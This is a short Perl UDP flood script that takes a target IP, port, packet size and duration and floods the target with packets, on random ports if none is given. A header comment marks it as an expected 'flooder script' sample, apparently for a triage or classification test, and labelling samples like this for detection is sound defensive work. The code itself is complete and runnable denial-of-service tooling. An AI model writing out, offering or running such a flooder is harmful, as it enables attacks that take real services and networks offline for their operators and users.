#!/usr/bin/perl
# triage-expect: triage_flooder_script
# UDP flood script, the way the classic ones are laid out.
use Socket;
my ($ip, $port, $size, $time) = @ARGV;
my $iaddr = inet_aton($ip) or die "usage: flood.pl ip port size seconds\n";
socket(flood, PF_INET, SOCK_DGRAM, 17);
print "Flooding $ip on port $port\n";
my $end = time() + ($time || 60);
for (;time() <= $end;) {
    send(flood, pack("a$size", "flood"), 0, pack_sockaddr_in($port || int(rand(65500)) + 1, $iaddr));
}
